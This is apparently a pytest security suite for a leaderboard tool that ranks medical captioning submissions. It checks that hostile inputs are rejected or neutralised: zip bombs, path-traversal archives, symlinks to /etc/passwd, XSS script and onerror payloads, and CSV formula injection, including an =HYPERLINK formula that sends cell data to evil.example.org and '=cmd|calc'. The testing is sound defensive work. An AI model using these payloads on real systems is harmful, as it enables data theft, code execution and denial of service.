"""Each submission of these means harm. The board stands, names the finding, and nothing of it comes alive."""

from __future__ import annotations

import io
import json
import os
import re
import resource
import subprocess
import sysconfig
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest

from rocov2_eval.errors import ExitCode

pytestmark = pytest.mark.slow

Submit = Callable[..., Path]
MOST_MEMORY = 4 << 30  # of address space: what numpy and its threads reserve is in it
MOST_SECONDS = 60
SCRIPT = "<script>window.hacked=1</script><img src=x onerror=window.hacked=2>"


@dataclass(frozen=True, kw_only=True)
class Outcome:
    """What a board made of a hostile submission."""

    codes: list[str]
    messages: list[str]
    files: dict[str, str]


@pytest.fixture
def board_with(root: Path, truth: Path, submit: Submit, tmp_path: Path) -> Callable[[], Outcome]:
    """Return a function that publishes the board in a process of bounded memory and time.

    An honest run takes part, and must be ranked whatever the others do.
    """
    submit("honest", "run")
    command = Path(sysconfig.get_path("scripts")) / "rocov2-eval"
    site = tmp_path / "site"

    def publish() -> Outcome:
        done = subprocess.run(
            [
                *(command, "leaderboard", root, "--truth", truth, "--out", site),
                *("--metric", "concept_f1", "--metric", "rouge", "--rank-by", "rouge1"),
            ],
            capture_output=True,
            text=True,
            timeout=MOST_SECONDS,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MOST_MEMORY, MOST_MEMORY)),
            env=os.environ | {"OPENBLAS_NUM_THREADS": "1"},
        )
        assert (done.returncode, "Traceback" in done.stderr) == (ExitCode.OK, False), done.stderr
        document = json.loads((site / "leaderboard.json").read_text(encoding="utf-8"))
        ranked = {item["team"] for board in document["boards"] for item in board["standings"]}
        assert "honest" in ranked
        found = [finding for item in document["rejected"] for finding in item["findings"]]
        return Outcome(
            codes=[finding["code"] for finding in found],
            messages=[finding["message"] for finding in found],
            files={path.name: path.read_text(encoding="utf-8") for path in site.rglob("*") if path.is_file()},
        )

    return publish


class Live(HTMLParser):
    """Collects whatever of a page could run or load something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag] if tag in {"img", "iframe", "object", "embed", "form", "base"} else []
        self.found += [name for name, _ in attrs if name.startswith("on")]
        self.found += [
            value
            for name, value in attrs
            if name == "href" and (value or "").strip().lower().startswith("javascript")
        ]


def live_parts(page: str) -> list[str]:
    reader = Live()
    reader.feed(page)
    own = re.sub(r"<script>\s*// Sorting.*?</script>", "", page, flags=re.DOTALL)
    return [*reader.found, *re.findall(r"<script", own)]


def archive(name: str, content: bytes, *, link: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as opened:
        entry = zipfile.ZipInfo(name)
        entry.compress_type = zipfile.ZIP_DEFLATED
        entry.external_attr = (0o120777 if link else 0o100644) << 16
        opened.writestr(entry, content)
    return buffer.getvalue()


@pytest.mark.slow
def test_a_zip_bomb(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    bomb = archive("run.csv", b"0" * (1 << 29))
    submit("evil", "bomb", bomb, file_name="run.zip")
    submit("evil", "liar", _lying(bomb), file_name="run.zip")
    outcome = board_with()
    assert outcome.codes == ["R004", "R004"]
    assert "the unpacked file has more than" in outcome.messages[0]


def _lying(content: bytes) -> bytes:
    """Return an archive whose directory says that its member has ten bytes."""
    size = (1 << 29).to_bytes(4, "little")
    return content.replace(size, (10).to_bytes(4, "little"))


@pytest.mark.parametrize("name", ["../../escaped.csv", "/escaped.csv", "C:\\escaped.csv", "a/../../b.csv"])
def test_a_zip_with_a_name_that_leads_out(
    submit: Submit, board_with: Callable[[], Outcome], tmp_path: Path, name: str
) -> None:
    submit("evil", "run", archive(name, b"ID,CUIs\n"), file_name="run.zip")
    outcome = board_with()
    assert (outcome.codes, "outside the archive" in outcome.messages[0]) == (["R004"], True)
    assert not list(tmp_path.rglob("escaped*"))


def test_a_zip_with_a_symbolic_link(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    submit("evil", "run", archive("run.csv", b"/etc/passwd", link=True), file_name="run.zip")
    assert board_with().codes == ["R004"]


def test_a_symbolic_link_to_the_truth(submit: Submit, board_with: Callable[[], Outcome], truth: Path) -> None:
    path = submit("evil", "run") / "run.csv"
    path.unlink()
    path.symlink_to(truth / "test_concepts.csv")
    assert board_with().codes == ["R604"]


@pytest.mark.slow
def test_a_line_of_five_gigabytes(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    path = submit("evil", "run", "ID,CUIs\n") / "run.csv"
    os.truncate(path, 5 << 30)  # sparse: the disk never sees it
    outcome = board_with()
    assert (outcome.codes, "more than 268,435,456 bytes" in outcome.messages[0]) == (["R001"], True)


@pytest.mark.slow
def test_a_million_columns(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    submit("evil", "run", "ID,CUIs\npicture_000" + ",C1" * 1_000_000 + "\n")
    outcome = board_with()
    assert "R102" in outcome.codes
    assert max(map(len, outcome.messages)) < 500


@pytest.mark.slow
def test_more_rows_and_cells_than_memory_holds(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    submit("evil", "cells", b"ID,CUIs\n" + b"," * (200 << 20))
    submit("evil", "rows", b"ID,CUIs\n" + b"a\n" * (100 << 20))
    assert board_with().codes == ["R001", "R001"]


def test_formulas_in_cells(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    formula = '=HYPERLINK("http://evil.example.org?x="&A1,"click")'
    rows = "".join(f'picture_{i:03},"{formula.replace(chr(34), chr(34) * 2)}"\n' for i in range(30))
    submit("evil", "concepts", f"ID,CUIs\n{rows}")
    submit("evil", "captions", f"ID,Caption\n{rows}", task="captions")
    submit("=cmd|calc", "run")
    outcome = board_with()
    assert not re.search(r"(^|,)[\"']?=", outcome.files["leaderboard.csv"].replace(",'=", ",'"), re.MULTILINE)
    assert "R110" in outcome.files["captions.html"]


def test_html_and_script_wherever_a_team_can_write(
    root: Path, submit: Submit, board_with: Callable[[], Outcome]
) -> None:
    captions = "".join(f"picture_{i:03},{SCRIPT}\n" for i in range(30))
    submit(
        "evil", "captions", f"ID,Caption\n{captions}", task="captions", method=SCRIPT, external_data=[SCRIPT]
    )
    submit("evil", "ids", f"ID,CUIs\n{SCRIPT},C1\n", method=SCRIPT)
    submit(
        "evil", "links", paper='https://example.org/"><script>x</script>', code="http://javascript:alert(1)"
    )
    (root / SCRIPT.replace("/", "\u2215") / "run").mkdir(parents=True)
    (submit("evil", "json") / "submission.json").write_text(json.dumps({SCRIPT: SCRIPT}), encoding="utf-8")
    outcome = board_with()
    pages = {name: text for name, text in outcome.files.items() if name.endswith(".html")}
    assert {"captions.html", "links.html", "index.html"} <= set(pages)
    assert {name: live_parts(text) for name, text in pages.items()} == {name: [] for name in pages}
    assert "&lt;script&gt;" in pages["captions.html"]
    assert "<script" not in outcome.files["leaderboard.md"].replace("\\<", "")


def test_nul_bytes_and_control_characters(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    rows = "".join(f"picture_{i:03},Lung\0\x1b[31m\u202e{i}\n" for i in range(30))
    submit("evil", "captions", f"ID,Caption\n{rows}", task="captions", method="\ud800\u202e\x07 end")
    submit("evil", "ids", "ID,CUIs\npicture\0_000,C1\n")
    outcome = board_with()
    assert "R104" in outcome.codes
    assert "R112" in outcome.files["captions.html"]
    assert not {"\0", "\x1b", "\u202e", "\x07"} & set("".join(outcome.files.values()))


@pytest.mark.slow
def test_ten_thousand_nested_arrays(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    for depth in (980, 10_000):
        folder = submit("evil", f"nested-{depth}")
        (folder / "submission.json").write_text("[" * depth + "]" * depth, encoding="utf-8")
    outcome = board_with()
    assert (set(outcome.codes), ["nested" in text for text in outcome.messages]) == ({"R601"}, [True, True])


def test_metadata_that_claims_the_run_of_another_team(
    root: Path, submit: Submit, board_with: Callable[[], Outcome]
) -> None:
    submit("evil", "run")
    path = root / "evil/run/submission.json"
    path.write_text(path.read_text(encoding="utf-8").replace('"evil"', '"honest"'), encoding="utf-8")
    outcome = board_with()
    assert (outcome.codes, outcome.messages) == (["R603"], ["it names honest/run, its folders are evil/run"])


@pytest.mark.slow
def test_ten_thousand_findings_make_a_short_page(submit: Submit, board_with: Callable[[], Outcome]) -> None:
    submit("evil", "run", "ID,CUIs\n" + "".join(f"unknown_{i},C1\n" for i in range(200_000)))
    outcome = board_with()
    assert len(outcome.files["index.html"]) < 300_000
    assert len(outcome.files["leaderboard.json"]) < 1_000_000
